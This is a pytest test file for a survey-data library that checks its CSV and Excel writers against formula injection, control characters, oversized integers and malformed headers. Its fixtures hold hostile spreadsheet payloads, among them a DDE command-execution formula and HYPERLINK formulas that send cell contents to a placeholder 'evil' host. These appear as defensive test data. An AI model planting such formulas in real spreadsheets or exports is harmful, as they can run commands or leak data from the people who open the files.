"""Hostile data and labels in everything we write: no live formula, no crash, reversible.

Defects D2 (formula injection in headers, codebooks, comparisons), D4 (one numeric answer
aborting the file), D9 (control characters in the Excel writers) and the D13 data-file family
(blank lines before the header, a BOM-only file) of the hostile-input review.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import pytest

import survey as sv
from survey.cli import main
from survey.errors import IngestError

BASE = """\
id: base
title: {en: "=cmd|' /C calc'!A0"}
languages: {default: en, available: {en: {name: English}}}
choice_lists: {yn: [{name: y, label: {en: "=1+1"}}, {name: n, label: {en: "+1+2"}}]}
items:
  - {name: rid, type: text, role: id, label: {en: "@SUM(1)"}}
  - {name: sex, type: select_one, list: yn, label: {en: "-2+3"}}
  - {name: age, type: integer, label: {en: Age}, range: [0, 120]}
  - {name: comment, type: text, label: {en: "=HYPERLINK(\\"http://evil/\\",\\"x\\")"}}
"""
EVIL = '=HYPERLINK("http://evil/?"&A1,"x")'


@pytest.fixture
def files(tmp_path):
    t = tmp_path / "base.yaml"
    t.write_text(BASE, encoding="utf-8")
    d = tmp_path / "d.csv"
    d.write_text('rid,sex,age,comment,"=HYPERLINK(""http://evil/"",""x"")"\n'
                 '1,y,30,"=2+2",@SUM(1)\n2,n,40,"a\x0bb\x01",b\n', encoding="utf-8")
    return t, d


def formulas(xlsx: Path) -> list[str]:
    with zipfile.ZipFile(xlsx) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/")
                for f in re.findall(r"<f>([^<]*)</f>", z.read(name).decode("utf-8"))]


def formula_like_cells_unguarded(xlsx: Path) -> list[str]:
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if isinstance(c.value, str) and c.value[:1] in "=+-@"
            and not c.quotePrefix]


def test_convert_to_xlsx_guards_headers_values_and_the_codebook(files, tmp_path):
    t, d = files
    out = tmp_path / "out.xlsx"
    assert main(["convert", str(t), str(d), str(out)]) == 0
    assert formulas(out) == []
    assert formula_like_cells_unguarded(out) == []
    from openpyxl import load_workbook

    wb = load_workbook(out)
    header = [c.value for c in wb["data"][1]]
    assert '=HYPERLINK("http://evil/","x")' in header  # the text itself is kept
    labels = {c.value for row in wb["codebook"].iter_rows() for c in row}
    assert {"=1+1", "+1+2", "@SUM(1)"} <= labels


def test_csv_header_is_guarded_and_read_back_unchanged(files, tmp_path):
    t, d = files
    q = sv.load_questionnaire(t)
    first = sv.read_responses(d, q)
    out = tmp_path / "out.csv"
    first.to_csv(out)
    text = out.read_text(encoding="utf-8")
    assert text.splitlines()[0].endswith('"\'=HYPERLINK(""http://evil/"",""x"")"')
    assert "\n1,=1+1" not in text and "'=2+2" in text
    again = sv.read_responses(out, q)
    assert list(again.data.columns) == list(first.data.columns)
    assert again.data["comment"].tolist() == first.data["comment"].tolist()


def test_codebook_csv_is_guarded(files, capsys):
    t, _ = files
    assert main(["codebook", str(t), "--format", "csv"]) == 0
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    assert not any(c and c[0] in "=+-@" for c in cells), cells
    assert "'@SUM(1)" in cells


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_compare_entries_output_is_guarded(files, tmp_path, suffix):
    t, _ = files
    a = tmp_path / "a.csv"
    b = tmp_path / "b.csv"
    a.write_text("rid,sex,age,comment\n1,y,30,hello\n", encoding="utf-8")
    b.write_text('rid,sex,age,comment\n1,y,30,"=HYPERLINK(""http://evil/?""&A1,""x"")"\n',
                 encoding="utf-8")
    out = tmp_path / f"cmp{suffix}"
    main(["compare-entries", str(t), str(a), str(b), "--id-column", "rid", "--out", str(out)])
    if suffix == ".xlsx":
        assert formulas(out) == [] and formula_like_cells_unguarded(out) == []
    else:
        text = out.read_text(encoding="utf-8")
        assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text


def test_validation_report_with_control_characters_and_formulas(files, tmp_path):
    t, d = files
    tc = tmp_path / "c.yaml"
    tc.write_text(BASE.replace('"=HYPERLINK(\\"http://evil/\\",\\"x\\")"}}',
                               '"c"}, constraint: "string-length(.) < 2"}'), encoding="utf-8")
    out = tmp_path / "problems.xlsx"
    assert main(["validate", str(tc), str(d), "--report", str(out)]) in (0, 1)
    assert out.exists() and formulas(out) == [] and formula_like_cells_unguarded(out) == []


@pytest.mark.parametrize("value", ["inf", "-inf", "1e400", "1e19", "9223372036854775808"])
def test_a_huge_or_infinite_integer_is_a_type_problem_not_a_crash(tmp_path, value):
    t = tmp_path / "t.yaml"
    t.write_text(BASE, encoding="utf-8")
    d = tmp_path / "n.csv"
    d.write_text(f"rid,sex,age,comment\n1,y,{value},a\n2,n,30,b\n", encoding="utf-8")
    s = sv.read_responses(d, sv.load_questionnaire(t))
    problems = s.validation.to_frame()
    assert problems.loc[problems["question"] == "age", "rule"].tolist() == ["type"]
    assert s.data["age"].isna().tolist() == [True, False]


@pytest.mark.parametrize("content", [b"\n\nrid,sex,age,comment\n1,y,30,a\n", b"\xef\xbb\xbf"])
def test_blank_lines_before_the_header_or_a_bom_only_file_is_an_ingest_error(tmp_path, content):
    t = tmp_path / "t.yaml"
    t.write_text(BASE, encoding="utf-8")
    d = tmp_path / "blank.csv"
    d.write_bytes(content)
    with pytest.raises(IngestError, match="blank.csv: expected a header row and data"):
        sv.read_responses(d, sv.load_questionnaire(t))


def test_xlsform_and_banner_workbooks_are_guarded(files, tmp_path):
    t, d = files
    q = sv.load_questionnaire(t)
    form = tmp_path / "form.xlsx"
    q.to_xlsform(form)
    assert formulas(form) == [] and formula_like_cells_unguarded(form) == []
    assert sv.read_xlsform(form).id == q.id
    s = sv.read_responses(d, q)
    book = tmp_path / "banner.xlsx"
    sv.banner(s, rows=["sex"], by=["sex"]).to_excel(book)
    assert formulas(book) == [] and formula_like_cells_unguarded(book) == []


def test_a_repeated_header_next_to_its_own_dotted_name_is_read(tmp_path):
    t = tmp_path / "t.yaml"
    t.write_text(BASE, encoding="utf-8")
    d = tmp_path / "dup.csv"
    d.write_text("sex,sex,sex.1\ny,n,x\n", encoding="utf-8")  # found by the fuzz test
    s = sv.read_responses(d, sv.load_questionnaire(t))
    assert len(s.data) + len(s.rejected) == 1
    assert s.data.columns.is_unique


def test_formulas_without_a_saved_result_in_a_header_or_a_blank_looking_row_are_reported(
        tmp_path):
    """D16: a workbook written by a program carries formulas but no results; a header formula
    (its column gets a placeholder name) and a formula on a row that then looks blank were
    read as blanks with no problem recorded."""
    from openpyxl import Workbook

    t = tmp_path / "t.yaml"
    t.write_text("id: t\ntitle: t\nitems:\n  - {name: rid, type: text, role: id}\n"
                 "  - {name: age, type: integer}\n  - {name: b, type: integer}\n",
                 encoding="utf-8")
    wb = Workbook()
    for row in (["rid", '="a"&"ge"', "b", '="c"'], [1, 30, 2, 1], [2, 40, "=B2", None]):
        wb.active.append(row)
    path = tmp_path / "d.xlsx"
    wb.save(path)  # openpyxl saves no computed result
    s = sv.read_responses(path, sv.load_questionnaire(t))
    v = s.validation.to_frame()
    f = v[v["rule"] == "formula_without_value"]
    assert f["value"].tolist() == ['="a"&"ge"', '="c"', "=B2"]
    assert f["row"].isna().tolist() == [True, True, False] and f["row"].iloc[2] == 3
    assert f["question"].iloc[2] == "b"
    assert "has no saved result" in f["message"].iloc[0]
    assert (v["rule"] == "missing_column").any()  # 'age' is still said to be missing


def test_guarded_rows_are_appended_without_rescanning_the_sheet(monkeypatch):
    # append_row looked its new row up again through ws.max_row, which scans every cell: a
    # validation report of 110,000 problems took hours (100,000 rows: 90 s; now 3 s)
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    from survey.core.safety import append_row

    scans = []
    real = Worksheet.max_row
    monkeypatch.setattr(Worksheet, "max_row",
                        property(lambda ws: scans.append(1) or real.fget(ws)))
    ws = Workbook().active
    for i in range(500):
        append_row(ws, [f"=HYPERLINK({i})", "a\x0bb", i, None, "+1"])
    assert scans == []
    monkeypatch.undo()
    assert ws.max_row == 500
    first = [(c.value, c.data_type, c.quotePrefix) for c in ws[1]]
    assert first == [("=HYPERLINK(0)", "s", True), ("a\ufffdb", "s", False),
                     (0, "n", False), (None, "n", False), ("+1", "s", True)]


def test_noncharacters_in_text_are_replaced_with_a_note_and_the_workbook_reads_back(tmp_path):
    # U+FFFE and U+FFFF cannot be held by XML 1.0: to_excel wrote them as they were and the
    # workbook it made could not be opened again ("not well-formed (invalid token)")
    import pandas as pd
    from openpyxl import load_workbook

    from survey.ingest.write import to_excel

    s = sv.Survey.from_frame(pd.DataFrame({"a": ["x\uffffy", "ok", "\ufffe"], "b": [1, 2, 3]}))
    written = to_excel(s, tmp_path / "o.xlsx")
    assert written.notes == (
        "row 0, column 'a': U+FFFF cannot be written to xlsx; replaced by U+FFFD",
        "row 2, column 'a': U+FFFE cannot be written to xlsx; replaced by U+FFFD")
    ws = load_workbook(tmp_path / "o.xlsx")["data"]
    assert [c.value for c in ws["A"]] == ["a", "x\ufffdy", "ok", "\ufffd"]
